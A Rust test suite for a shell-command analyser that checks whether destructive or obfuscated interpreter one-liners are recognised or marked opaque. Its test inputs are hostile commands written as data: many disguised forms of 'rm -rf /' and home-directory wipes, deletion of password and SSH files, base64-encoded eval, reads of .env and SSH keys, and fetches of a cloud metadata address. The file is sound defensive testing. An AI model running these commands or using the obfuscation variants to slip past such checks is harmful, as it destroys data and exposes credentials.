//! Inline code through the whole analysis: what a policy sees.

use crate::shell::{analyze, OpaqueKind, ShellAnalysis};

fn commands(a: &ShellAnalysis) -> Vec<String> {
    a.commands
        .iter()
        .map(|c| {
            let mut s = c.program.clone();
            for arg in &c.args {
                s.push(' ');
                s.push_str(arg);
            }
            if let Some(call) = &c.call {
                s.push_str(&format!(" [{call}]"));
            }
            s
        })
        .collect()
}

/// The line runs `rm` with `-r`, or is opaque.
fn caught(line: &str) -> bool {
    let a = analyze(line);
    a.is_opaque()
        || a.commands
            .iter()
            .any(|c| c.program == "rm" && c.has_flag("-r"))
}

#[test]
fn commands_run_by_interpreter_code_are_analysed() {
    for (line, want) in [
        (
            r#"python -c "import os; os.system('rm -rf /')""#,
            "rm -rf /",
        ),
        (
            r#"python3 -c "import subprocess; subprocess.run(['rm','-rf','/'])""#,
            "rm -rf /",
        ),
        (
            r#"python3 -c "import subprocess as s; s.call('rm -rf ~', shell=True)""#,
            "rm -rf ~",
        ),
        (
            r#"python -c "from os import system as s; s('rm -rf /')""#,
            "rm -rf /",
        ),
        (
            r#"python -c "__import__('os').system('rm -rf /')""#,
            "rm -rf /",
        ),
        (
            r#"python -c "import os; os.system('rm ' + '-rf /')""#,
            "rm -rf /",
        ),
        (
            r#"python -c "getattr(__import__('os'), 'sys'+'tem')('rm -rf /')""#,
            "rm -rf /",
        ),
        (
            r#"python -c "exec('import os; os.system(\"rm -rf /\")')""#,
            "rm -rf /",
        ),
        (
            r#"python -c "import os; os.execvp('rm', ['rm', '-rf', '/'])""#,
            "rm -rf /",
        ),
        (
            r#"node -e "require('child_process').execSync('rm -rf /')""#,
            "rm -rf /",
        ),
        (
            r#"node -e "const {execSync: x} = require('node:child_process'); x('rm -rf /')""#,
            "rm -rf /",
        ),
        (
            r#"node -e "const cp = require('child_process'); cp.spawnSync('rm', ['-rf', '/'])""#,
            "rm -rf /",
        ),
        (r#"perl -e "system('rm -rf /')""#, "rm -rf /"),
        (r#"perl -e 'system "rm", "-rf", "/"'"#, "rm -rf /"),
        (r#"perl -e 'print `rm -rf /`'"#, "rm -rf /"),
        (r#"perl -e 'qx{rm -rf /}'"#, "rm -rf /"),
        (r#"ruby -e 'system("rm -rf /")'"#, "rm -rf /"),
        (r#"ruby -e '`rm -rf /`'"#, "rm -rf /"),
        (r#"ruby -e 'Kernel.send(:system, "rm -rf /")'"#, "rm -rf /"),
        (r#"php -r 'shell_exec("rm -rf /");'"#, "rm -rf /"),
        (r#"php -r 'echo `rm -rf /`;'"#, "rm -rf /"),
        (r#"awk 'BEGIN{system("rm -rf /")}'"#, "rm -rf /"),
        (r#"awk 'BEGIN{print "x" | "rm -rf /"}'"#, "rm -rf /"),
        (r#"sed -n '1e rm -rf /' f"#, "rm -rf /"),
        (
            "python3 - <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF",
            "rm -rf /",
        ),
        (
            "python3 <<'EOF'\nimport shutil\nshutil.rmtree('/')\nEOF",
            "rm -r -f -- / [shutil.rmtree]",
        ),
        (
            "node <<'EOF'\nrequire('fs').rmSync('/', {recursive: true})\nEOF",
            "rm -r -f -- / [fs.rmSync]",
        ),
        (
            "ruby <<< 'FileUtils.rm_rf(\"/\")'",
            "rm -r -f -- / [FileUtils.rm_rf]",
        ),
        (
            r#"python3 -c "import subprocess; subprocess.Popen(['rm','-rf','/'], shell=1)""#,
            "rm -rf /",
        ),
        (
            r#"node -e "require('child_process')['execSync']('rm -rf /')""#,
            "rm -rf /",
        ),
        (
            r#"node -e "(() => { const {execSync} = require('child_process'); execSync('rm -rf /') })()""#,
            "rm -rf /",
        ),
        (
            r#"node -e "process.mainModule.require('child_process').execSync('rm -rf /')""#,
            "rm -rf /",
        ),
        (
            r#"node -e "child_process.execSync('rm -rf /')""#,
            "rm -rf /",
        ),
        ("bun -e 'await Bun.$`rm -rf /`'", "rm -rf /"),
        (r#"php -r '("sys" . "tem")("rm -rf /");'"#, "rm -rf /"),
        (r#"php -r '$f = "system"; $f("rm -rf /");'"#, "rm -rf /"),
        (r#"perl -e '$c = "rm -rf /"; system $c'"#, "rm -rf /"),
        (r#"perl -e 'system("rm" . " -rf /")'"#, "rm -rf /"),
        (r#"ruby -e 'IO.popen("rm -rf /")'"#, "rm -rf /"),
        (r#"ruby -e 'system(*%w[rm -rf /])'"#, "rm -rf /"),
        (r#"awk 'BEGIN{system("rm -rf " "/")}'"#, "rm -rf /"),
    ] {
        let a = analyze(line);
        let found = commands(&a);
        if want.is_empty() {
            assert!(a.is_opaque(), "{line}: {found:?}");
            continue;
        }
        assert!(
            found.iter().any(|c| c == want),
            "{line}: {found:?} {:?}",
            a.opaque
        );
        assert!(caught(line), "{line}");
    }
}

#[test]
fn destructive_library_calls_become_the_command_they_equal() {
    for (line, want) in [
        (
            r#"python -c "import shutil; shutil.rmtree('/')""#,
            "rm -r -f -- / [shutil.rmtree]",
        ),
        (
            r#"python -c "from shutil import rmtree as r; r('/srv')""#,
            "rm -r -f -- /srv [shutil.rmtree]",
        ),
        (
            r#"python -c "import os as o; o.remove('/etc/passwd')""#,
            "rm -f -- /etc/passwd [os.remove]",
        ),
        (
            r#"python -c "import pathlib; pathlib.Path('/x').unlink()""#,
            "rm -f -- /x [Path.unlink]",
        ),
        (
            r#"python -c "import shutil; shutil.move('a', '/etc/b')""#,
            "mv -- a /etc/b [shutil.move]",
        ),
        (
            r#"node -e "require('fs').rmSync('/', {recursive: true, force: true})""#,
            "rm -r -f -- / [fs.rmSync]",
        ),
        (
            r#"node -e "require('fs').rmdirSync('/x', {recursive: true})""#,
            "rm -r -f -- /x [fs.rmdirSync]",
        ),
        (
            r#"node -e "require('fs').unlinkSync('x')""#,
            "rm -f -- x [fs.unlinkSync]",
        ),
        (
            r#"node -e "import('fs'); require('fs/promises').rm('~', {recursive: true})""#,
            "rm -r -f -- ~ [fs.promises.rm]",
        ),
        (
            r#"perl -e 'use File::Path qw(rmtree); rmtree("/srv")'"#,
            "rm -r -f -- /srv [rmtree]",
        ),
        (
            r#"perl -e 'unlink "/etc/passwd", "/etc/shadow"'"#,
            "rm -f -- /etc/passwd /etc/shadow [unlink]",
        ),
        (
            r#"ruby -e 'require "fileutils"; FileUtils.rm_rf("/")'"#,
            "rm -r -f -- / [FileUtils.rm_rf]",
        ),
        (
            r#"ruby -e 'File.delete("/etc/hosts")'"#,
            "rm -f -- /etc/hosts [File.delete]",
        ),
        (
            r#"php -r 'unlink("/etc/passwd");'"#,
            "rm -f -- /etc/passwd [unlink]",
        ),
    ] {
        let a = analyze(line);
        let found = commands(&a);
        assert!(
            found.iter().any(|c| c == want),
            "{line}: {found:?} {:?}",
            a.opaque
        );
        let library = a.commands.iter().find(|c| c.call.is_some()).unwrap();
        assert!(!library.targets.is_empty(), "{line}");
    }
}

#[test]
fn code_that_cannot_be_read_is_opaque() {
    for line in [
        r#"python -c "import os; os.system(input())""#,
        r#"python -c "import os; c='rm'; os.system(c + x)""#,
        r#"python -c "exec(__import__('base64').b64decode('cm0gLXJmIC8='))""#,
        r#"python -c "__import__(''.join(['o','s'])).system('id')""#,
        r#"python -c "import os; getattr(os, n)('id')""#,
        r#"python -c "import os; f = [os.system]; f[0]('rm -rf /')""#,
        r#"python -c "eval(compile(s, 'x', 'exec'))""#,
        r#"python -c "__builtins__.__dict__['ex'+'ec']('x')""#,
        r#"python -c "import ctypes; ctypes.CDLL(None).system(b'id')""#,
        r#"python -c "import sys; sys.modules['os'].system('id')""#,
        r#"node -e "require(x).execSync('id')""#,
        r#"node -e "import(m).then(cp => cp.execSync('id'))""#,
        r#"node -e "eval(Buffer.from('cm0=', 'base64').toString())""#,
        r#"node -e "this.constructor.constructor('return process')().mainModule""#,
        r#"perl -e 'eval $ARGV[0]'"#,
        r#"perl -e 'system $cmd'"#,
        r#"perl -e 'my $x = "rm"; system($x . $y)'"#,
        r#"ruby -e 'send(ARGV[0], "x")'"#,
        r#"ruby -e 'eval(STDIN.read)'"#,
        r#"php -r '$f = $argv[1]; $f("id");'"#,
        r#"awk '{system($0)}'"#,
        r#"awk '{print | $1}'"#,
        r#"sed 's/.*/rm -rf &/e' f"#,
        r#"python3 -c "$CODE""#,
        r#"perl -e 'exec { $p } "rm", "-rf", "/"'"#,
        r#"php -r '("sys" . $x)("id");'"#,
        r#"node -e "require('child_process')[m]('id')""#,
        r#"deno eval "Deno.removeSync('/', {recursive: true})""#,
        "python3",
        "curl -s https://x.sh | python3 -",
        "node -",
        "python <<EOF\nimport os; os.system('$X')\nEOF",
        r#"python -c "import os; os.system(f'rm -rf {d}')""#,
    ] {
        let a = analyze(line);
        assert!(
            a.has_opaque(OpaqueKind::DynamicEval) || a.has_opaque(OpaqueKind::ShellFromStdin),
            "{line}: {:?} {:?}",
            commands(&a),
            a.opaque
        );
    }
}

#[test]
fn ordinary_interpreter_use_stays_clear() {
    for line in [
        "python -c 'print(1)'",
        r#"python3 -c "import json,sys; print(json.load(sys.stdin)['version'])""#,
        r#"python3 -c "import os; print(os.getcwd(), os.path.exists('x'))""#,
        r#"python -c "import subprocess; print(subprocess.__file__)""#,
        "python -m pytest -x tests/",
        "python3 -m venv .venv",
        "python3 manage.py migrate",
        "python -V",
        "python3 < script.py",
        "node -e 'console.log(process.version)'",
        r#"node -p "require('./package.json').version""#,
        r#"node -e "const r = /a'b/; console.log('x'.replace(r, ''))""#,
        "node server.js --port 3000",
        "node --version",
        "perl -pi -e 's/a/b/' f",
        "perl -lne 'print if /error/' log.txt",
        "perl -ne 'print $1 if /(\\d+)/' f",
        r#"perl -MJSON -e 'print encode_json({a => 1})'"#,
        "ruby -e 'puts RUBY_VERSION'",
        r#"ruby -rjson -e 'puts JSON.parse(File.read("x.json"))["a"]'"#,
        r#"python3 -c "import json; print(json.load(open('package.json'))['version'])""#,
        r#"node -e "console.log(require('fs').readFileSync('package.json', 'utf8'))""#,
        "php -r 'echo PHP_VERSION;'",
        "awk '{print $1}' access.log",
        "awk -F: '$3 > 1000 {print $1}' /etc/passwd",
        r#"awk 'BEGIN{FS=","} {s+=$2} END{print s}' data.csv"#,
        "sed -n '1,5p' f",
        "sed -i 's/foo/bar/g' src/*.rs",
        "sed -e 's/e/E/' -e '/^#/d' f",
        "cat <<EOF\nimport os; os.system('rm -rf /')\nEOF",
        "tee notes.py <<'EOF'\nos.system('x')\nEOF",
        "python3 - <<'EOF'\nprint('hello')\nEOF",
        "bun -e 'console.log(1)'",
        "deno eval 'console.log(1)'",
    ] {
        let a = analyze(line);
        assert!(!a.is_opaque(), "{line}: {:?}", a.opaque);
        // Files the code reads come back as `cat` (`File.read("x.json")`),
        // which rules judge by the path; nothing else may.
        assert!(
            a.commands
                .iter()
                .all(|c| (c.call.is_none() && c.via.is_empty()) || c.program == "cat"),
            "{line}: {:?}",
            commands(&a)
        );
    }
}

#[test]
fn python_deletes_inside_the_project_are_plain_file_deletes() {
    let a = analyze(r#"python -c "import os; os.remove('build/out.o')""#);
    assert_eq!(
        commands(&a),
        [
            "python -c import os; os.remove('build/out.o')",
            "rm -f -- build/out.o [os.remove]"
        ]
    );
    assert_eq!(a.commands[1].via, ["python -c"]);
}

#[test]
fn hostile_code_ends_within_the_limits() {
    for code in [
        "system ".repeat(9_000),
        "(".repeat(30_000),
        "[{".repeat(15_000),
        "exec('".repeat(2_000),
        "f(".repeat(10_000) + &")".repeat(10_000),
    ] {
        for program in [
            "perl -e",
            "python3 -c",
            "node -e",
            "ruby -e",
            "php -r",
            "awk",
        ] {
            let line = format!("{program} '{}'", code.replace('\'', ""));
            let a = analyze(&line);
            assert!(!a.commands.is_empty(), "{program}");
        }
    }
    // Non-ASCII option letters and code.
    for line in [
        "sed -é x",
        "python3 -ç 'x'",
        "perl -eé",
        "awk -é 'x'",
        "node -e 'é(\"ü\")'",
    ] {
        let _ = analyze(line);
    }
}

#[test]
fn file_writes_copies_and_links_in_code_are_reported_as_commands() {
    for (line, want) in [
        (
            r#"python3 -c "open('/etc/x','w').write('')""#,
            "tee -- /etc/x [open]",
        ),
        (
            r#"python3 -c "open('/etc/x', mode='a')""#,
            "tee -- /etc/x [open]",
        ),
        (
            r#"python3 -c "import pathlib; pathlib.Path('/etc/x').write_text('')""#,
            "tee -- /etc/x [Path.write_text]",
        ),
        (
            r#"python3 -c "import shutil; shutil.copy('a', '/etc/x')""#,
            "cp -- a /etc/x [shutil.copy]",
        ),
        (
            r#"python3 -c "import os; os.symlink('/dev/null', '/etc/x')""#,
            "ln -s -- /dev/null /etc/x [os.symlink]",
        ),
        (
            r#"node -e "require('fs').appendFileSync('/etc/x','')""#,
            "tee -- /etc/x [fs.appendFileSync]",
        ),
        (
            r#"perl -e 'open(my $f, ">>", "/etc/x")'"#,
            "tee -- /etc/x [open]",
        ),
        (r#"perl -e 'open(F, ">/etc/x")'"#, "tee -- /etc/x [open]"),
        (
            r#"ruby -e 'File.write("/etc/x", "")'"#,
            "tee -- /etc/x [File.write]",
        ),
        (
            r#"php -r 'file_put_contents("/etc/x", "");'"#,
            "tee -- /etc/x [file_put_contents]",
        ),
    ] {
        let a = analyze(line);
        assert!(
            commands(&a).iter().any(|c| c == want),
            "{line}: {:?}",
            commands(&a)
        );
        let written = a
            .commands
            .iter()
            .flat_map(|c| &c.writes)
            .any(|t| t.text == "/etc/x");
        assert!(written, "{line}");
    }
    // Reads write nothing.
    for line in [
        r#"python3 -c "print(open('/etc/x').read())""#,
        r#"python3 -c "open('/etc/x', 'rb')""#,
        r#"node -e "require('fs').readFileSync('/etc/x')""#,
        r#"perl -e 'open(F, "<", "/etc/x")'"#,
    ] {
        let a = analyze(line);
        assert!(
            a.commands.iter().all(|c| c.writes.is_empty()),
            "{line}: {:?}",
            commands(&a)
        );
    }
}

#[test]
fn sed_and_awk_output_files_are_writes() {
    for line in [
        "sed -n 'w /etc/x' in.txt",
        "sed -e '1W /etc/x' in.txt",
        "sed 's/a/b/w /etc/x' in.txt",
        r#"awk '{ print > "/etc/x" }' in.txt"#,
        r#"awk 'BEGIN { printf "" >> "/etc/x" }'"#,
    ] {
        let a = analyze(line);
        let written = a
            .commands
            .iter()
            .flat_map(|c| &c.writes)
            .any(|t| t.text == "/etc/x");
        assert!(written, "{line}: {:?}", commands(&a));
    }
    let a = analyze("sed -n 'w /dev/stdout' in.txt");
    assert!(a.commands.iter().all(|c| c.writes.is_empty()));
}

#[test]
fn an_alias_defined_on_the_line_makes_it_opaque_and_its_value_is_read() {
    let a = analyze("alias r=rm; r -rf ~");
    assert!(a.has_opaque(OpaqueKind::DynamicProgram));
    let a = analyze("alias wipe='rm -rf ~'");
    assert!(caught("alias wipe='rm -rf ~'"));
    assert!(
        commands(&a).iter().any(|c| c == "rm -rf ~"),
        "{:?}",
        commands(&a)
    );
}

#[test]
fn urls_in_interpreter_code_are_fetched_urls() {
    for (line, want) in [
        (
            r#"python3 -c "import urllib.request; urllib.request.urlopen('http://169.254.169.254/latest/meta-data/')""#,
            "curl -- http://169.254.169.254/latest/meta-data/ [URL in the code]",
        ),
        (
            r#"node -e "fetch('http://169.254.' + '169.254/')""#,
            "curl -- http://169.254.169.254/ [URL in the code]",
        ),
        (
            r#"ruby -e 'require "net/http"; Net::HTTP.get(URI("http://169.254.169.254/"))'"#,
            "curl -- http://169.254.169.254/ [URL in the code]",
        ),
        (
            r#"python3 -c "import socket; socket.create_connection(('169.254.169.254', 80))""#,
            "curl -- 169.254.169.254 [URL in the code]",
        ),
    ] {
        let a = analyze(line);
        assert!(
            commands(&a).contains(&want.to_string()),
            "{line}: {:?}",
            commands(&a)
        );
    }
    // The same URL read twice is one fetch; ordinary strings are none.
    let a = analyze(r#"python3 -c "u = 'https://a.example/'; print(u); print(u)""#);
    assert_eq!(
        commands(&a)
            .iter()
            .filter(|c| c.starts_with("curl"))
            .count(),
        1
    );
    let a = analyze(r#"python3 -c "print('a.txt', 'os.path', '127.0.0.1')""#);
    assert!(!commands(&a).iter().any(|c| c.starts_with("curl")));
}

#[test]
fn globbed_deletes_delete_the_pattern() {
    for (line, want) in [
        (r#"perl -e "unlink glob q(~/*)""#, "rm -f -- ~/* [unlink]"),
        (
            r#"perl -e 'unlink glob("/etc/*")'"#,
            "rm -f -- /etc/* [unlink]",
        ),
        (
            r#"perl -e 'unlink glob("/etc/a /etc/b*")'"#,
            "rm -f -- /etc/a /etc/b* [unlink]",
        ),
        (
            r#"python3 -c "import glob, os; os.remove(glob.glob('/etc/*'))""#,
            "rm -f -- /etc/* [os.remove]",
        ),
    ] {
        let a = analyze(line);
        assert!(
            commands(&a).contains(&want.to_string()),
            "{line}: {:?}",
            commands(&a)
        );
        let rm = a.commands.iter().find(|c| c.program == "rm").unwrap();
        assert!(rm.targets.iter().all(|t| t.pattern), "{line}");
    }
}

#[test]
fn lua_r_and_julia_inline_code_is_read() {
    for (line, want) in [
        (r#"lua -e 'os.execute("rm -rf ~")'"#, "rm -rf ~"),
        (r#"lua -e 'os.execute"rm -rf ~"'"#, "rm -rf ~"),
        (r#"lua -e 'os.execute[[rm -rf ~]]'"#, "rm -rf ~"),
        (r#"lua -e 'os.execute("rm " .. "-rf ~")'"#, "rm -rf ~"),
        // Lua's `\ddd` escapes are decimal.
        (r#"lua -e 'os.execute("\114\109 -rf ~")'"#, "rm -rf ~"),
        (r#"luajit -e 'io.popen("rm -rf /")'"#, "rm -rf /"),
        (r#"lua -e 'load("os.execute(\"rm -rf ~\")")()'"#, "rm -rf ~"),
        (r#"Rscript -e 'system("rm -rf ~")'"#, "rm -rf ~"),
        (r#"Rscript -e 'system(paste0("rm -rf ", "~"))'"#, "rm -rf ~"),
        (r#"Rscript -e 'system2("rm", c("-rf", "~"))'"#, "rm -rf ~"),
        (
            r#"Rscript -e 'cmd <- "rm -rf ~"; base::system(cmd)'"#,
            "rm -rf ~",
        ),
        (
            r#"Rscript -e 'eval(parse(text = "system(\"rm -rf ~\")"))'"#,
            "rm -rf ~",
        ),
        (
            r#"Rscript -e 'do.call("system", list("rm -rf ~"))'"#,
            "rm -rf ~",
        ),
        (
            r#"Rscript -e 'unlink("~", recursive=TRUE)'"#,
            "rm -r -f -- ~ [unlink]",
        ),
        (r#"R --vanilla -e 'system("rm -rf ~")'"#, "rm -rf ~"),
        (r#"julia -e 'run(`rm -rf ~`)'"#, "rm -rf ~"),
        (r#"julia --eval 'run(`rm -rf /`)'"#, "rm -rf /"),
        (
            r#"julia -t 4 -E 'run(`git push --force`)'"#,
            "git push --force",
        ),
        (
            r#"julia -e 'eval(Meta.parse("run(`rm -rf ~`)"))'"#,
            "rm -rf ~",
        ),
        (
            r#"julia -e 'rm("/"; recursive=true, force=true)'"#,
            "rm -r -f -- / [rm]",
        ),
    ] {
        let a = analyze(line);
        assert!(
            commands(&a).contains(&want.to_string()),
            "{line}: {:?}",
            commands(&a)
        );
    }
    for line in [
        r#"lua -e '_G["os"]["execute"]("rm -rf ~")'"#,
        r#"Rscript -e 'get("system")("rm -rf ~")'"#,
        r#"julia -e 'run(`rm -rf $(homedir())`)'"#,
        "echo 'os.execute(\"rm -rf ~\")' | lua",
    ] {
        assert!(caught(line), "{line}");
    }
    for line in [
        "lua script.lua",
        "lua -v",
        "lua -e 'print(1 + 1)'",
        "lua -e '-- os.execute(\"rm -rf ~\")\nprint(1)'",
        "lua -e '--[[ os.execute(\"rm -rf ~\") ]] print(1)'",
        "Rscript analysis.R",
        "Rscript -e 'x <- read.csv(\"data.csv\"); print(summary(x))'",
        "Rscript -e 'rmarkdown::render(\"report.Rmd\")'",
        "R CMD build .",
        "R --vanilla < script.R",
        "julia --project=. -e 'using Pkg; Pkg.instantiate()'",
        "julia -e 'println(\"a\" * \"b\")'",
        "julia script.jl",
    ] {
        let a = analyze(line);
        assert!(!a.is_opaque(), "{line}: {:?}", a.opaque);
        assert!(
            !a.commands.iter().any(|c| c.program == "rm"),
            "{line}: {:?}",
            commands(&a)
        );
    }
}

#[test]
fn home_directory_names_in_code_are_the_home_directory() {
    for (line, want) in [
        (
            r#"python3 -c "import os; os.remove(os.path.expanduser('~/.bashrc'))""#,
            "rm -f -- ~/.bashrc [os.remove]",
        ),
        (
            r#"python3 -c "import os; os.remove(os.path.join(os.environ['HOME'], '.ssh/authorized_keys'))""#,
            "rm -f -- ~/.ssh/authorized_keys [os.remove]",
        ),
        (
            r#"python3 -c "from pathlib import Path; p = Path.home() / '.zshrc'; p.unlink()""#,
            "rm -f -- ~/.zshrc [Path.unlink]",
        ),
        (
            r#"node -e "require('fs').unlinkSync(require('path').join(require('os').homedir(), '.npmrc'))""#,
            "rm -f -- ~/.npmrc [fs.unlinkSync]",
        ),
        (
            r#"node -e "require('fs').unlinkSync(process.env.HOME + '/.gitconfig')""#,
            "rm -f -- ~/.gitconfig [fs.unlinkSync]",
        ),
        (
            r#"ruby -e 'File.delete(File.join(ENV["HOME"], ".netrc"))'"#,
            "rm -f -- ~/.netrc [File.delete]",
        ),
        (
            r#"perl -e 'unlink "$ENV{HOME}/.bashrc"'"#,
            "rm -f -- ~/.bashrc [unlink]",
        ),
    ] {
        let a = analyze(line);
        assert!(
            commands(&a).contains(&want.to_string()),
            "{line}: {:?}",
            commands(&a)
        );
    }
}

#[test]
fn awk_getline_from_a_file_reads_it() {
    for line in [
        r#"awk 'BEGIN{while((getline l < ".env")>0) print l}'"#,
        r#"awk 'BEGIN { getline < "/home/u/.ssh/id_rsa"; print }'"#,
        r#"gawk 'BEGIN{getline line<".e\nv"}'"#,
    ] {
        let a = analyze(line);
        let cats: Vec<String> = commands(&a)
            .into_iter()
            .filter(|c| c.starts_with("cat -- "))
            .collect();
        assert_eq!(cats.len(), 1, "{line}: {cats:?}");
        assert!(cats[0].ends_with("[awk getline <]"), "{line}");
    }
    // Reading standard input or a command's output is not a file.
    for line in [
        r#"awk '{getline; print}' x"#,
        r#"awk 'BEGIN{"date" | getline d}'"#,
    ] {
        assert!(
            !commands(&analyze(line))
                .iter()
                .any(|c| c.starts_with("cat")),
            "{line}"
        );
    }
}

#[test]
fn files_the_code_reads_are_reported_as_cat() {
    for (line, want) in [
        (
            r#"python3 -c "print(open('.e'+'nv').read())""#,
            "cat -- .env [open]",
        ),
        (
            r#"python3 -c "print(open('.env', 'rb').read())""#,
            "cat -- .env [open]",
        ),
        (
            r#"node -e "console.log(require('fs').readFileSync('.'+'env', 'utf8'))""#,
            "cat -- .env [fs.readFileSync]",
        ),
        (
            r#"ruby -e 'puts File.read(".env")'"#,
            "cat -- .env [File.read]",
        ),
        (
            r#"php -r 'echo file_get_contents(".env");'"#,
            "cat -- .env [file_get_contents]",
        ),
        (
            r#"Rscript -e 'readLines(".env")'"#,
            "cat -- .env [readLines]",
        ),
        (
            r#"lua -e 'for l in io.lines(".env") do print(l) end'"#,
            "cat -- .env [io.lines]",
        ),
    ] {
        let found = commands(&analyze(line));
        assert!(found.iter().any(|c| c == want), "{line}: {found:?}");
    }
    // A write is still a write, not a read.
    let found = commands(&analyze(r#"python3 -c "open('out.txt', 'w').write('x')""#));
    assert!(
        found.iter().any(|c| c == "tee -- out.txt [open]"),
        "{found:?}"
    );
    assert!(!found.iter().any(|c| c.starts_with("cat")), "{found:?}");
}

#[test]
fn a_directory_just_made_in_temp_is_temp() {
    for line in [
        r#"python3 -c "import shutil, tempfile; shutil.rmtree(tempfile.mkdtemp())""#,
        r#"python3 -c "import shutil, tempfile; d = tempfile.mkdtemp(); shutil.rmtree(d)""#,
        r#"node -e "const fs=require('fs'); fs.rmSync(fs.mkdtempSync('x-'), {recursive: true})""#,
    ] {
        let found = commands(&analyze(line));
        assert!(
            found.iter().any(|c| c.starts_with("rm -r -f -- /tmp/tmp.")),
            "{line}: {found:?}"
        );
    }
    // The temp root itself, or a climb out of the new directory, is not.
    for line in [
        r#"python3 -c "import shutil, tempfile; shutil.rmtree(tempfile.gettempdir())""#,
        r#"python3 -c "import os, shutil, tempfile; shutil.rmtree(os.path.join(tempfile.mkdtemp(), '..'))""#,
    ] {
        let found = commands(&analyze(line));
        assert!(
            found.iter().any(|c| c == "rm -r -f -- /tmp [shutil.rmtree]"
                || c == "rm -r -f -- /tmp/tmp.XXXXXXXX/.. [shutil.rmtree]"),
            "{line}: {found:?}"
        );
    }
}

#[test]
fn a_line_that_starts_with_a_cmdlet_is_read_as_powershell_from_its_raw_text() {
    // Bash would strip the backslashes; PowerShell keeps them, and the
    // path is the user's temp folder.
    let found = commands(&analyze(
        r"Remove-Item -Recurse -Force C:\Users\u\AppData\Local\Temp\build",
    ));
    assert!(
        found
            .iter()
            .any(|c| c == r"rm -r -f -- C:\Users\u\AppData\Local\Temp\build [Remove-Item]"),
        "{found:?}"
    );
    assert!(
        !found
            .iter()
            .any(|c| c.starts_with("rm") && c.contains("C:UsersuAppData")),
        "{found:?}"
    );
    // What bash would run after it is still read as bash.
    let found = commands(&analyze("Remove-Item x; rm -rf ~"));
    assert!(found.iter().any(|c| c == "rm -rf ~"), "{found:?}");
}

/// Malformed or hostile code for the Emacs, Vim and PowerShell readers
/// ends in a reading or an opaque line, never a panic or a hang.
#[test]
fn editor_and_dotnet_readers_survive_malformed_code() {
    let deep_lisp = format!("emacs --eval '{}'", "(".repeat(5000));
    let deep_exe = format!("vim -c '{}'", "exe \"".repeat(200));
    let deep_calls = format!("pwsh -c '{}'", "[IO.File]::Delete(".repeat(500));
    for line in [
        "emacs --eval '(delete-file'",
        "emacs --eval ')))'",
        "emacs --eval '\"unterminated'",
        "emacs --eval '(delete-file \"a\\'",
        "emacs --eval '?'",
        "emacs --eval '(funcall)'",
        "emacs --eval '(apply (quote delete-file))'",
        "emacsclient -e",
        "vim -c",
        "vim -c '!'",
        "vim -c 'call system('",
        "vim -c \"call delete('x', \"",
        "vim -c 'g/'",
        "vim -c '%'",
        "vim + +/x +1",
        "pwsh -c '[IO.File]::Delete('",
        "pwsh -c '[]::('",
        "pwsh -c '[IO.Path]::Combine([IO.Path]::Combine('",
        "pwsh -c '[Diagnostics.Process]::Start()'",
        deep_lisp.as_str(),
        deep_exe.as_str(),
        deep_calls.as_str(),
    ] {
        let _ = analyze(line);
    }
    assert!(analyze(&deep_lisp).is_opaque());
}

/// `interpreter` finds a versioned name by trimming its version, which is
/// only right while no name ends in what a version is made of.
#[test]
fn interpreter_names_do_not_end_in_a_version() {
    for line in [
        "python3.12 -c 'import os; os.system(\"rm -rf /\")'",
        "lua5.4 -e 'os.execute(\"rm -rf /\")'",
    ] {
        assert!(caught(line), "{line}");
    }
    assert!(!caught("rscript2 -e 'unlink(\"/\", recursive=TRUE)'"));
    for interpreter in super::INTERPRETERS {
        for name in interpreter.names {
            assert!(
                !name.ends_with(|c: char| c.is_ascii_digit() || c == '.'),
                "{name}"
            );
        }
    }
}
